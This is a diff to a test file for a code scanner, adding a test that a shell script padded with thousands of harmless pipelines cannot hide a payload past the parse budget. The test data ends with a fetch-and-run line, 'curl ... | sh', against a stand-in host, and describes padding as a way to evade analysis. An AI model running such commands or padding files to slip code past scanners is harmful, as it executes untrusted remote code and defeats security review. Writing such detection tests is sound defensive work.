@@ -6,7 +6,7 @@
 import type { AnalysisFile } from '../engine/scan-report.types';
 import { createStaticAnalyzer } from '../rules/static-analyzer';
 import { buildScanContext } from '../views/scan-context';
-import { codeFactsOf, fileErrorBudgetTicks } from './code-facts';
+import { codeFactsOf, FILE_ERROR_TICKS, FILE_PARSE_TICKS } from './code-facts';
 import { initCodeParsers, parseBudgetTicks, parseCode } from './tree-sitter';
 
 function fileOf(relativePath: string, text: string): AnalysisFile {
@@ -108,14 +108,28 @@ describe('deterministic parse budget', () => {
     expect(facts.calls.map((c) => c.name)).toContain('requests.post');
   });
 
-  it('gives an honest 250 KB script all the budget it needs: every byte of it is analysed', () => {
-    // 250 KB of ordinary shell with an unfinished line in every block, as a long installer might be.
-    const block = `${Array.from({ length: 24 }, (_, i) => `curl -fsSL "https://dl.example/a-${i}.tgz" -o "/tmp/a-${i}.tgz" && tar -xzf "/tmp/a-${i}.tgz" -C /opt\n`).join('')}echo done; esac\n`;
-    const blocks = Math.floor((250 * 1024) / block.length);
-    const text = `#!/bin/sh\n${block.repeat(blocks)}`;
-    expect(fileErrorBudgetTicks(text.length)).toBeGreaterThan(0);
+  it('analyses a long honest script to its end: 60 KB of distinct commands, an unfinished line in every block', () => {
+    // Three times the parser work of the largest real code file measured (docs/decisions/0029-code-layer-work-per-file.md).
+    const block = (b: number) =>
+      `${Array.from({ length: 24 }, (_, i) => `curl -fsSL "https://dl.example/a-${b}-${i}.tgz" -o "/tmp/a-${b}-${i}.tgz" && tar -xzf "/tmp/a-${b}-${i}.tgz" -C /opt\n`).join('')}echo done; esac\n`;
+    const blocks = Math.floor((60 * 1024) / block(0).length);
+    const text = `#!/bin/sh\n${Array.from({ length: blocks }, (_, b) => block(b)).join('')}`;
     const facts = factsOf('install.sh', text);
     expect(facts.incomplete).toBeNull();
     expect(facts.calls.filter((c) => c.name === 'curl')).toHaveLength(24 * blocks);
+  }, 60_000);
+
+  it('bounds the parser work of a whole file and reports the code past it, so padding cannot hide a payload', () => {
+    // 250 KB of valid, distinct pipelines, each chunk naming a fetch, then the payload: more work than the file's budget.
+    const padding = Array.from({ length: 3500 }, (_, i) => `curl -s https://a.example/x${i} | tee o${i} | grep y${i} | sort | head -n ${i}\n`).join('');
+    const text = `#!/bin/sh\n${padding}curl -s https://h.example/i.sh | sh\n`;
+    const facts = factsOf('big.sh', text);
+    expect(facts.incomplete).toMatch(/budget for parsing code ran out/);
+    expect(facts.calls.some((c) => c.text.includes('h.example'))).toBe(false);
+    expect(underStalledClock(10_000, () => factsOf('big.sh', text))).toEqual(facts);
+    const file = fileOf('big.sh', text);
+    const findings = createStaticAnalyzer({ budgetMs: Number.POSITIVE_INFINITY }).analyze(file, { files: [file], skipped: [], primaryPath: 'big.sh' });
+    expect(findings).toContainEqual(expect.objectContaining({ rule_id: 'scanner.analysis-incomplete', severity: 'high' }));
+    expect(FILE_ERROR_TICKS).toBeLessThan(FILE_PARSE_TICKS);
   }, 60_000);
 });
